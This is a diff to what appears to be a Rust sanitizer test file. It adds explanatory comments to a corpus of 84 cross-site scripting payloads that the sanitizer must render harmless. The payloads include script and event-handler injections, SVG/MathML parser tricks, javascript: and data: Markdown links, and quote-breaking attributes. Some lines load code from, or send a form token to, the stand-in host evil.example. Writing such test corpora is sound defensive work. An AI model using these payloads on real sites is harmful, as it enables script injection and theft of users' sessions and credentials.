@@ -6,16 +6,22 @@ use super::*;
 
 /// The known kinds. None of them may become anything but text, a link to the web or to mail, or a mark for a picture.
 const CORPUS: [&str; 84] = [
+    // The plain case, in capitals, and cut in half: a filter that only removes the inner tags builds the outer
+    // one.
     "<script>alert(1)</script>",
     "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
     "<scr<script>ipt>alert(1)</scr</script>ipt>",
     "<script>alert(1)//",
     "<script\n>alert(1)</script\n>",
+    // Handlers need no script element. Unquoted values, odd quotes and `/` for a blank deceive filters, not
+    // browsers.
     "<img src=x onerror=alert(1)>",
     "<img src=\"javascript:alert(1)\">",
     "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
     "<img src=x:alert(alt) onerror=eval(src) alt=1>",
     "<img/src=`x`onerror=alert(1)>",
+    // SVG and MathML have parsing rules of their own. Text that a filter takes for a comment or a style becomes
+    // an element when the browser parses the cleaned text again.
     "<svg onload=alert(1)>",
     "<svg><script>alert(1)</script></svg>",
     "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
@@ -23,6 +29,7 @@ const CORPUS: [&str; 84] = [
     "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
     "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
     "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+    // Elements that load something, or change where everything else is loaded from.
     "<iframe src=javascript:alert(1)></iframe>",
     "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
     "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==></object>",
@@ -32,6 +39,7 @@ const CORPUS: [&str; 84] = [
     "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
     "<style>@import 'https://evil.example/x.css'; body { background: url(https://evil.example/) }</style>",
     "<div style=\"background:url(javascript:alert(1))\">x</div>",
+    // Elements whose handlers run without a click.
     "<body onload=alert(1)>",
     "<details open ontoggle=alert(1)>",
     "<video><source onerror=alert(1)>",
@@ -40,10 +48,12 @@ const CORPUS: [&str; 84] = [
     "<select onfocus=alert(1) autofocus>",
     "<textarea onfocus=alert(1) autofocus>",
     "<marquee onstart=alert(1)>",
+    // Forms send what a person types to a stranger. Buttons and links carry scripts in their addresses.
     "<button formaction=javascript:alert(1)>x</button>",
     "<form action=https://evil.example><input name=token></form>",
     "<a href=\"javascript:alert(1)\">x</a>",
     "<a href=\"https://a.example\" onclick=\"alert(1)\">x</a>",
+    // Places where a parser stops to read tags, and begins again elsewhere than a filter expects.
     "<template><script>alert(1)</script></template>",
     "<xmp><script>alert(1)</script></xmp>",
     "<plaintext><script>alert(1)</script>",
@@ -52,6 +62,8 @@ const CORPUS: [&str; 84] = [
     "<![CDATA[<script>alert(1)</script>]]>",
     "<?xml version=\"1.0\"?><script>alert(1)</script>",
     "<!DOCTYPE html [<!ENTITY x \"<script>\">]>&x;",
+    // Schemes in Markdown links. Browsers ignore tabs, line ends and controls in a scheme, and decode entities
+    // first.
     "[x](javascript:alert(1))",
     "[x](JaVaScRiPt:alert(1))",
     "[x](java\tscript:alert(1))",
@@ -62,6 +74,8 @@ const CORPUS: [&str; 84] = [
     "[x](\u{1}javascript:alert(1))",
     "[x]( javascript:alert(1))",
     "[x](vbscript:msgbox(1))",
+    // Other schemes that run something or read local files, and addresses without a scheme. Those lead into this
+    // server, where the browser adds the page's cookie.
     "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
     "[x](data:image/svg+xml,<svg onload=alert(1)>)",
     "[x](blob:https://a.example/1)",
@@ -71,12 +85,14 @@ const CORPUS: [&str; 84] = [
     "[x](/api/logout)",
     "[x](\\\\evil.example)",
     "[x](view-source:https://a.example)",
+    // A quote in an address or a title would end the attribute and begin another one.
     "[x](https://a.example/\"onmouseover=\"alert(1))",
     "[x](<https://a.example/\" onmouseover=\"alert(1)>)",
     "[x](https://a.example '\" onmouseover=\"alert(1)')",
     "[x](https://a.example \"\\\" onmouseover=alert(1) x=\\\"\")",
     "<javascript:alert(1)>",
     "<https://a.example/\"onclick=alert(1)>",
+    // The same in reference links and pictures, whose text becomes an attribute as well.
     "[x]: javascript:alert(1)\n\n[x]",
     "[x]: https://a.example \"\\\"><script>alert(1)</script>\"\n\n[x]",
     "![x](javascript:alert(1))",
@@ -84,11 +100,13 @@ const CORPUS: [&str; 84] = [
     "![x](https://a.example/x.png\"onerror=\"alert(1))",
     "![x](<https://a.example/x.png\" onerror=\"alert(1)>)",
     "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
+    // The language of a code block becomes a class, and its text must not end the block.
     "```\"><script>alert(1)</script>\nx\n```",
     "```js onload=alert(1)\n</code></pre><script>alert(1)</script>\n```",
     "`</code><script>alert(1)</script>`",
     "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
     "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
+    // Parsers drop or replace NUL, which can join a tag that the filter saw in pieces.
     "\u{0}<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
 ];
 
